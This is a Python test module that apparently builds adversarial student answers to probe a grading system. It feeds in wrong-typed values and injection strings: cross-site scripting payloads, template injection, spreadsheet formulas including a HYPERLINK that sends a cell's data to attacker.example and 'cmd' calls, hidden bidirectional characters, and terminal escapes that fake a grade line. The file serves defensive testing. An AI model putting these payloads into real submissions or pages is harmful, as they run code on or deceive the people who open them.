"""Answers of the wrong type, and answers that act where they are opened."""

from typing import Any

from attack import HONEST, Corpus, Hand

VALUES = Corpus("Answers: wrong types, markup, formulas and signs that cannot be seen")
attack = VALUES.attack
ODD_ONES = tuple(f"m05-q{number}" for number in range(2, 16, 2))
UNFIT = "unfinished or do not fit their question"

# a value that no question of the module takes; each is given to every question that is not honestly answered
TYPES: dict[str, Any] = {
    "true": True,
    "number": 10**17,
    "fraction": 1e308,
    "text": "sound",
    "long-text": "a" * 100_000,
    "list-of-lists": [[["a"]], [[]]],
    "object-of-objects": {"a": {"b": {"c": 1}}},
    "outcome-as-list": {"outcome": ["sound"], "grounds": {"agree": True}, "value": []},
    "grounds-as-text": {"outcome": "sound", "grounds": "agree", "value": True},
    "long-list": ["day"] * 10_000,
    "all-at-once": {
        "outcome": "sound",
        "grounds": [None, {}, [], 5],
        "number": "NaN",
        "unit": 5,
        "hex": [],
        "date": {},
    },
}


def typed(name: str, value: Any) -> None:
    """Define an attack by one value given to many questions."""

    def make(hand: Hand) -> None:
        hand.write(hand.with_values(dict.fromkeys((*ODD_ONES, "m05-t1"), value)))

    make.__name__ = name
    attack(f"wrong type for every kind of question: {name.replace('-', ' ')}", "the marks, or the run", UNFIT)(make)


for _name, _value in TYPES.items():
    typed(f"type-{_name}", _value)

ACTING = {
    "script": ("<script>alert(1)</script>", "the instructor's browser", "markup in answers"),
    "image": ("<img src=x onerror=alert(1)>", "the instructor's browser", "markup in answers"),
    "drawing": ("<svg/onload=alert(1)>", "the instructor's browser", "markup in answers"),
    "end-of-style": (
        "</style></script></textarea><script>alert(1)//",
        "the page around the answer",
        "markup in answers",
    ),
    "link": (
        "[me](javascript:alert(1)) <a href='javascript:alert(1)'>x</a>",
        "the instructor's click",
        "markup in answers",
    ),
    "template": ("{{ config }}{% for x in y %}", "the program that draws the page", "markup in answers"),
    "formula": (
        '=HYPERLINK("http://attacker.example/?"&A1,"x")',
        "the instructor's spreadsheet",
        "formulas in answers",
    ),
    "command": ("+cmd|' /C calc'!A0", "the instructor's computer", "formulas in answers"),
    "at-formula": ("@SUM(1+1)*cmd|' /C calc'!A0", "the instructor's computer", "formulas in answers"),
    "turned": ("paid \u202eton saw\u202c \u2066hidden\u2069", "the reader's eyes", "signs that cannot be seen"),
    "mathematics": (
        "$\\require{html}\\href{javascript:alert(1)}{x}$",
        "the mathematics on the page",
        "markup in answers",
    ),
    "escapes": (
        "\x1b]0;owned\x07\x1b[2J\r\nneighbour-1: graded: full",
        "the instructor's terminal",
        "signs that cannot be seen",
    ),
}


def acting(name: str, text: str, reaches: str, said: str) -> None:
    """Define an attack by a text that acts where it is opened, in a draft and in every other kind of question."""

    def make(hand: Hand) -> None:
        values: dict[str, Any] = {"m05-t1": {"finding": text, "open": text}, "m05-q2": text}
        values |= {"m05-q4": {"outcome": text, "grounds": [text], "value": {"algorithm": "md5", "hex": text}}}
        values |= {"m05-q10": {text: text}, "m05-q14": {"1": text, text: "sound"}}
        hand.write(hand.with_values(values))

    make.__name__ = name
    attack(f"{name.replace('-', ' ')} in answers of every kind", reaches, said, earns=HONEST)(make)


for _name, (_text, _reaches, _said) in ACTING.items():
    acting(f"text-{_name}", _text, _reaches, _said)
